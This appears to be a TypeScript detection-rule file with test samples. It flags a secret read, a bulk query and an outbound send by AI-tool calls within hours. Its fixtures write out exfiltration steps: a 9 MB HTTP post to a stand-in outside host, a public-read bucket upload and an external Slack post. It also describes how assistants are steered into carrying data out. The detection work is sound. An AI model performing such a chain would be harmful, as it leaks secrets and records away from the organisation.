import type { AuditRule } from '../audit/rule.ts';
import { call } from '../audit/sample.ts';

const window = { from: '2026-03-16T00:00:00Z', to: '2026-03-19T00:00:00Z' };
const secret = (at: string, user = 'robin@example.org') =>
  call(at, { mcp_server: 'vault', tool_called: 'read_secret', parameters: { path: 'db/prod' }, user });
const query = (at: string, result_size = '88,000 records', user = 'robin@example.org') =>
  call(at, { parameters: { query: 'index=* | table *' }, result_size, user });
const post = (at: string, url: string, user = 'robin@example.org') =>
  call(at, { mcp_server: 'http', tool_called: 'http_post', parameters: { url, body_bytes: 9_000_000 }, user });
const outside = 'https://collector.example.net/in';

export const exfiltrationChain: AuditRule = {
  id: 'exfiltration-chain',
  title: 'Secret read, big query, then data sent outside',
  severity: 'critical',
  why: 'One account read a secret, then queried much, then sent something out of the organisation, in this order. That is how an assistant is made to carry data out.',
  tags: ['T1552', 'T1213', 'T1567', 'AML.T0086', 'AML.T0098', 'MCP01:2025'],
  falsePositives: [
    'a summary posted inside the organisation: excused',
    'a destination that three or more people used on three or more earlier days, or this person on three: excused',
    'a release or report that is meant for the public',
  ],
  sql: `
    WITH senders AS (SELECT DISTINCT usr FROM outbound WHERE usr IS NOT NULL),
    calls AS (
      SELECT usr, ts, seq, server, records, secret_read, reads FROM recent WHERE usr IN (SELECT usr FROM senders)
      UNION ALL
      SELECT usr, ts, seq, server, records, secret_read, reads FROM history, settings
      WHERE ts >= make_timestamp(from_us::BIGINT) - INTERVAL 8 HOUR AND usr IN (SELECT usr FROM senders)),
    secrets AS (SELECT usr, ts, seq, server FROM calls WHERE secret_read),
    summed AS (
      SELECT *, sum(records) OVER (
        PARTITION BY usr ORDER BY ts RANGE BETWEEN INTERVAL 1 HOUR PRECEDING AND CURRENT ROW) AS in_hour
      FROM calls WHERE reads AND NOT secret_read AND records > 0),
    big AS (SELECT s.* FROM summed s, settings WHERE records >= 0.4 * bulk OR in_hour >= bulk),
    armed AS (
      SELECT b.usr, b.ts, b.seq, b.server, greatest(b.records, b.in_hour) AS records,
        s.ts AS secret_ts, s.seq AS secret_seq, s.server AS secret_server
      FROM big b ASOF JOIN secrets s ON b.usr = s.usr AND b.ts >= s.ts
      WHERE b.ts - s.ts <= INTERVAL 8 HOUR),
    chains AS (
      SELECT o.*, a.seq AS query_seq, a.server AS query_server, a.records AS query_records,
        a.secret_ts, a.secret_seq, a.secret_server,
        coalesce(b.days, 0) AS own_days
      FROM outbound o ASOF JOIN armed a ON o.usr = a.usr AND o.ts >= a.ts
      LEFT JOIN (SELECT usr, dest, count(DISTINCT day) AS days FROM sent_before GROUP BY ALL) b
        ON b.usr = o.usr AND b.dest = o.dest
      WHERE o.ts - a.secret_ts <= INTERVAL 8 HOUR AND o.seq <> a.seq AND o.seq <> a.secret_seq),
    judged AS (
      SELECT *, CASE
        WHEN NOT dest_external AND dest_kind = 'unknown' THEN 'The call shows no destination.'
        WHEN NOT dest_external THEN 'It was sent to a place inside the organisation.'
        WHEN own_days >= 3 THEN format('This person sent to the same destination on {} earlier days.', own_days)
        WHEN dest_people >= 3 AND dest_days >= 3 AND dest_kind NOT IN ('public', 'drop')
          THEN format('{} people sent to the same destination on {} earlier days.', dest_people, dest_days)
        END AS excuse
      FROM chains)
    SELECT arg_min(seq, (ts, seq)) AS seq,
      list_distinct([any_value(secret_seq), any_value(query_seq)] || list(seq ORDER BY ts, seq)[1:100]) AS seqs,
      usr, list_sort(list_distinct([any_value(secret_server), any_value(query_server)] || list(server))) AS servers,
      min(secret_ts) AS began, max(ts) AS ended, excuse,
      format('About {:,} records were queried, and {} calls sent data, within {} minutes of the secret read.',
        max(query_records)::BIGINT, count(*), ceil(epoch(max(ts) - min(secret_ts)) / 60)::BIGINT) AS note,
      CASE WHEN min(ts) - min(secret_ts) <= INTERVAL 3 HOUR THEN 'likely' ELSE 'hint' END AS confidence
    FROM judged GROUP BY usr, secret_seq, excuse`,
  samples: [
    {
      name: 'within ten minutes, to a host outside',
      expect: 'hit',
      window,
      lines: [secret('2026-03-17T10:00:00Z'), query('2026-03-17T10:04:00Z'), post('2026-03-17T10:09:00Z', outside)],
    },
    {
      name: 'slowly, and to a public bucket',
      expect: 'hit',
      window,
      lines: [
        secret('2026-03-17T10:00:00Z'),
        query('2026-03-17T10:40:00Z'),
        call('2026-03-17T12:10:00Z', {
          mcp_server: 's3',
          tool_called: 'put_object',
          parameters: { bucket: 'team-files', key: 'a.gz', acl: 'public-read' },
        }),
      ],
    },
    {
      name: 'the query is paged, the destination a channel shared with outsiders',
      expect: 'hit',
      window,
      lines: [
        secret('2026-03-17T10:00:00Z'),
        ...Array.from({ length: 20 }, (_, page) =>
          query(`2026-03-17T10:${String(page + 1).padStart(2, '0')}:00Z`, '3,000 records'),
        ),
        call('2026-03-17T10:45:00Z', {
          mcp_server: 'slack',
          tool_called: 'post_message',
          parameters: { channel: '#ext-suppliers', text: 'see attachment' },
        }),
      ],
    },
    {
      name: 'out of order in the file, in order by time',
      expect: 'hit',
      window,
      lines: [
        post('2026-03-17T10:09:00Z', outside),
        query('2026-03-17T11:04:00+01:00'),
        secret('2026-03-17T05:00:00-05:00'),
      ],
    },
    {
      name: 'sent before anything was read',
      expect: 'quiet',
      window,
      lines: [post('2026-03-17T10:00:00Z', outside), query('2026-03-17T10:04:00Z'), secret('2026-03-17T10:09:00Z')],
    },
    {
      name: 'three different people',
      expect: 'quiet',
      window,
      lines: [
        secret('2026-03-17T10:00:00Z', 'ana@example.org'),
        query('2026-03-17T10:04:00Z', '88,000 records', 'ben@example.org'),
        post('2026-03-17T10:09:00Z', outside, 'eve@example.org'),
      ],
    },
    {
      name: 'the query brought little',
      expect: 'quiet',
      window,
      lines: [
        secret('2026-03-17T10:00:00Z'),
        query('2026-03-17T10:04:00Z', '40 records'),
        post('2026-03-17T10:09:00Z', outside),
      ],
    },
    {
      name: 'a summary posted to the own channel',
      expect: 'excused',
      window,
      lines: [
        secret('2026-03-17T10:00:00Z'),
        query('2026-03-17T10:04:00Z'),
        call('2026-03-17T10:09:00Z', {
          mcp_server: 'slack',
          tool_called: 'post_message',
          parameters: { channel: '#soc', text: 'done' },
        }),
      ],
    },
    {
      name: 'a destination that everybody uses',
      expect: 'excused',
      window,
      lines: [
        ...['ana', 'ben', 'eve'].map((name, day) => post(`2026-03-1${day}T10:00:00Z`, outside, `${name}@example.org`)),
        secret('2026-03-17T10:00:00Z'),
        query('2026-03-17T10:04:00Z'),
        post('2026-03-17T10:09:00Z', outside),
      ],
    },
  ],
};
